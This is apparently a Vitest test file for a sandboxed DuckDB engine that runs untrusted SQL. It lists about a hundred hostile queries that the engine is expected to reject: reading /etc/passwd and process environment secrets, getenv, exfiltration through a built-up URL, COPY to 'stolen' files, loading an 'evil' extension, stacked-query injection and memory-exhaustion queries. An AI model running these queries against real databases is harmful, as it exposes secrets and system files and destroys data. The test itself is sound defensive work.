import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { EvidenceError } from "@ml-gates/gate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDuckdb } from "../duckdb.ts";
import type { SqlEngine, UntrustedScope } from "../sql-engine.ts";

const SECRET = "the-secret-of-this-test";

let directory = "";
let engine: SqlEngine;
let scope: UntrustedScope;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), "ml-gates-sandbox-"));
  await writeFile(join(directory, "orders.csv"), "id,amount,note\n1,2.5,a\n2,,b\n3,10,c\n");
  await writeFile(join(directory, "hidden.csv"), `secret\n${SECRET}\n`);
  engine = await openDuckdb({
    directory,
    memory: "500MB",
    threads: 2,
    temp: directory,
    nativePath: null,
    environment: { SECRET },
    log: () => undefined,
  });
  const orders = await engine.open({ path: "orders.csv" });
  await engine.open({ path: "hidden.csv" });
  await engine.query(`COPY (SELECT 7 AS n, 'x' AS t) TO '${join(directory, "plain.parquet")}'`);
  scope = { tables: { orders, plain: await engine.open({ path: "plain.parquet" }) }, timeLimitSeconds: 5 };
});

afterAll(async () => {
  engine.close();
  await rm(directory, { recursive: true, force: true });
});

const ask = (sql: string, limits: Partial<UntrustedScope> = {}) =>
  engine.queryUntrusted(sql.replaceAll("DIR", directory), { ...scope, ...limits });

describe("a stranger's query", () => {
  it.each([
    [
      "reads a declared text file",
      "SELECT * FROM orders WHERE amount > 5",
      [{ id: 3, amount: 10, note: "c" }],
    ],
    ["reads a declared Parquet file", "FROM plain", [{ n: 7, t: "x" }]],
    ["joins the two", "SELECT n FROM plain JOIN \"Orders\" o ON o.id < n AND o.note = 'a'", [{ n: 7 }]],
    [
      "uses WITH",
      "WITH big AS (SELECT * FROM orders WHERE id > 1) SELECT count(*) AS n FROM big",
      [{ n: 2 }],
    ],
    [
      "uses WITH RECURSIVE",
      "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT max(n) AS n FROM r",
      [{ n: 5 }],
    ],
    ["uses windows", "SELECT max(row_number() OVER (ORDER BY id)) OVER () AS n FROM orders LIMIT 1", null],
    ["uses subqueries", "SELECT id FROM orders WHERE id = (SELECT min(id) FROM orders)", [{ id: 1 }]],
    ["uses set operations", "SELECT 1 AS n UNION ALL SELECT 2 ORDER BY n DESC LIMIT 1", [{ n: 2 }]],
    ["uses series", "SELECT count(*) AS n FROM range(10), unnest([1, 2])", [{ n: 20 }]],
    [
      "uses text functions",
      "SELECT upper(note) AS n FROM orders WHERE regexp_matches(note, '^[ab]')",
      [{ n: "A" }, { n: "B" }],
    ],
    ["ends in a comment", "SELECT 1 AS n -- done", [{ n: 1 }]],
    ["ends in a semicolon", "SELECT 1 AS n;", [{ n: 1 }]],
    [
      "names a column like a system table",
      "SELECT id AS duckdb_settings FROM orders LIMIT 1",
      [{ duckdb_settings: 1 }],
    ],
  ])("%s", async (_, sql, expected) => {
    const answer = ask(sql);
    if (expected === null) await expect(answer).rejects.toThrow(/window/i);
    else expect(await answer).toEqual(expected);
  });
});

const ATTACKS = [
  "SELECT * FROM read_csv('DIR/hidden.csv')",
  "SELECT * FROM read_csv_auto('DIR/hidden.csv')",
  "SELECT * FROM read_text('/etc/passwd')",
  "SELECT * FROM read_blob('/proc/self/environ')",
  "SELECT * FROM read_json('DIR/hidden.csv')",
  "SELECT * FROM read_ndjson_objects('DIR/hidden.csv')",
  "SELECT * FROM read_parquet('DIR/plain.parquet')",
  "SELECT * FROM parquet_scan('DIR/plain.parquet')",
  "SELECT * FROM parquet_metadata('DIR/plain.parquet')",
  "SELECT * FROM parquet_kv_metadata('DIR/plain.parquet')",
  "SELECT * FROM sniff_csv('DIR/hidden.csv')",
  "SELECT * FROM glob('/etc/*')",
  "SELECT * FROM '/etc/passwd'",
  "SELECT * FROM 'DIR/hidden.csv'",
  'SELECT * FROM "DIR/hidden.csv"',
  "SELECT * FROM 'DIR/plain.parquet'",
  "SELECT * FROM 'https://example.org/data.csv'",
  "SELECT * FROM read_csv('s3://bucket/data.csv')",
  "SELECT * FROM read_text('ht' || 'tps://example.org/' || (SELECT note FROM orders LIMIT 1))",
  'WITH "/etc/passwd" AS (SELECT 1) SELECT * FROM "/etc/passwd"',
  'SELECT * FROM (WITH "DIR/hidden.csv" AS (SELECT 1) SELECT 1) a, "DIR/hidden.csv" b',
  "WITH duckdb_settings AS (SELECT * FROM duckdb_settings) SELECT * FROM duckdb_settings",
  "SELECT * FROM table_1",
  "SELECT * FROM table_2",
  "SELECT * FROM main.orders",
  "SELECT * FROM memory.main.orders",
  "SELECT * FROM orders AT (VERSION => 1)",
  "SELECT * FROM duckdb_settings()",
  "SELECT * FROM duckdb_secrets()",
  "SELECT * FROM duckdb_views",
  "SELECT * FROM duckdb_functions()",
  "SELECT * FROM information_schema.tables",
  "SELECT * FROM pg_catalog.pg_class",
  "SELECT * FROM pg_class",
  "SELECT * FROM sqlite_master",
  "SELECT * FROM pragma_database_size()",
  "SELECT * FROM pragma_storage_info('orders')",
  "SELECT * FROM query('SELECT * FROM duckdb_settings()')",
  "SELECT * FROM query_table('orders')",
  "SELECT * FROM arrow_scan(1::POINTER, 1::POINTER, 1::POINTER)",
  "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
  "SELECT * FROM which_secret('s3://x', 's3')",
  "SELECT * FROM sql_auto_complete('SELECT')",
  "SELECT * FROM duckdb_logs_parsed('x')",
  "SELECT getenv('SECRET')",
  "SELECT getvariable('x')",
  "SELECT current_setting('temp_directory')",
  "SELECT current_setting('memory_limit')",
  "SELECT current_query()",
  "SELECT current_database()",
  "SELECT version()",
  "SELECT pg_get_viewdef(1)",
  "SELECT json_serialize_plan('SELECT * FROM read_csv(''DIR/hidden.csv'')')",
  "SELECT nextval('s')",
  "SELECT write_log('x')",
  "SELECT setseed(0.5)",
  "SELECT sleep_ms(100000)",
  "SELECT pg_sleep(100)",
  "SHOW TABLES",
  "SELECT * FROM (SHOW ALL TABLES)",
  "DESCRIBE orders",
  "SUMMARIZE orders",
  "EXPLAIN ANALYZE SELECT 1",
  "COPY orders TO 'DIR/stolen.csv'",
  "COPY (SELECT 1) TO 'DIR/stolen.parquet'",
  "COPY orders FROM 'DIR/hidden.csv'",
  "EXPORT DATABASE 'DIR/stolen'",
  "IMPORT DATABASE 'DIR'",
  "ATTACH 'DIR/other.db'",
  "ATTACH 'host=127.0.0.1' AS p (TYPE postgres)",
  "DETACH memory",
  "USE memory",
  "INSTALL httpfs",
  "FORCE INSTALL httpfs FROM 'http://127.0.0.1:1/'",
  "LOAD httpfs",
  "LOAD '/tmp/evil.duckdb_extension'",
  "UPDATE EXTENSIONS",
  "SET enable_external_access = true",
  "SET memory_limit = '100GB'",
  "SET VARIABLE x = 1",
  "RESET lock_configuration",
  "PRAGMA enable_external_access",
  "PRAGMA database_list",
  "PRAGMA import_database('DIR')",
  "CALL pragma_version()",
  "CALL enable_logging()",
  "CREATE TABLE t AS SELECT 1",
  "CREATE TEMP TABLE t AS SELECT 1",
  "CREATE OR REPLACE VIEW orders AS SELECT 1",
  "CREATE MACRO f() AS 1",
  "CREATE SECRET s (TYPE s3)",
  "CREATE TYPE t AS ENUM ('a')",
  "DROP VIEW orders",
  "INSERT INTO orders VALUES (1)",
  "DELETE FROM orders",
  "UPDATE orders SET id = 1",
  "ALTER VIEW orders RENAME TO o",
  "TRUNCATE orders",
  "VACUUM",
  "CHECKPOINT",
  "BEGIN TRANSACTION",
  "PREPARE p AS SELECT 1",
  "EXECUTE p",
  "WITH x AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM x",
  "MERGE INTO orders USING plain ON true WHEN MATCHED THEN DELETE",
  "SELECT 1; SELECT 2",
  "SELECT 1; DROP VIEW orders",
  "SELECT 1 /* ; */; SET threads = 1 --",
  "'; ATTACH 'DIR/other.db'; --",
  "SELECT $1",
  "SELECT len(range(100000000000))",
  "SELECT length(repeat('x', 4000000000))",
  "SELECT lpad('x', 2000000000, 'y')",
  "SELECT [1].list_resize(100000000000)",
  "SELECT printf('%2000000000d', 1)",
  "SELECT *",
  "SELEC 1",
  "",
  "-- nothing",
  "SELECT '\0'",
  `SELECT ${"abs(".repeat(5000)}1${")".repeat(5000)}`,
  `SELECT ${"1 + ".repeat(40_000)}1`,
  `SELECT '${"x".repeat(100_001)}'`,
];

describe("what reaches beyond the declared tables", () => {
  it.each(ATTACKS.map((sql) => [sql.length > 100 ? `${sql.slice(0, 40)}…` : sql, sql]))(
    "is an error of its own: %s",
    async (_, sql) => {
      const told = await ask(sql).then(
        (rows) => `rows: ${JSON.stringify(rows)}`,
        (error) => error,
      );
      expect(told).toBeInstanceOf(EvidenceError);
      expect(String(told.message)).not.toContain(SECRET);
    },
  );

  it("leaves the files and the tables as they were", async () => {
    const names = await readdir(directory);
    expect(names.filter((name) => !name.startsWith("ml-gates-duckdb-")).sort()).toEqual([
      "hidden.csv",
      "orders.csv",
      "plain.parquet",
    ]);
    expect(await readFile(join(directory, "hidden.csv"), "utf8")).toContain(SECRET);
    expect(await ask("SELECT count(*) AS n FROM orders")).toEqual([{ n: 3 }]);
    expect(await engine.query("SELECT 1 AS n")).toEqual([{ n: 1 }]);
  });
});

describe("the bounds of a query", () => {
  it.each([
    ["time, in a join", "SELECT count(*) FROM range(1000000) a, range(1000000) b, range(1000) c"],
    [
      "time, in a recursion",
      "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT 1 FROM r) SELECT count(*) FROM r",
    ],
  ])("are of %s", async (_, sql) => {
    const started = performance.now();
    await expect(ask(sql, { timeLimitSeconds: 0.5 })).rejects.toThrow("stopped after 0.5 seconds");
    expect(performance.now() - started).toBeLessThan(4000);
    expect(await ask("SELECT 1 AS n")).toEqual([{ n: 1 }]);
  });

  it("are of memory", async () => {
    const sql = "SELECT len(list(a.range)) FROM range(100000) a, range(100000) b";
    // Time enough, so that memory is what ends it on a busy machine too.
    await expect(ask(sql, { timeLimitSeconds: 55 })).rejects.toThrow(/out of memory/i);
  });

  it("are of rows, and a longer answer is never cut silently", async () => {
    expect(await ask("FROM orders", { maxRows: 3 })).toHaveLength(3);
    await expect(ask("FROM orders", { maxRows: 2 })).rejects.toThrow("more than 2 rows");
  });

  it("are of characters", async () => {
    const sql = "SELECT string_agg('0123456789', '') AS t FROM range(2000000)";
    await expect(ask(sql)).rejects.toThrow("more than 16000000 characters");
  });

  it("hold for queries asked at the same time, one after the other", async () => {
    const asked = ["SELECT 1 AS n", "DROP VIEW orders", "SELECT 2 AS n"].map((sql) => ask(sql));
    const told = await Promise.allSettled(asked);
    expect(told.map(({ status }) => status)).toEqual(["fulfilled", "rejected", "fulfilled"]);
  });
});
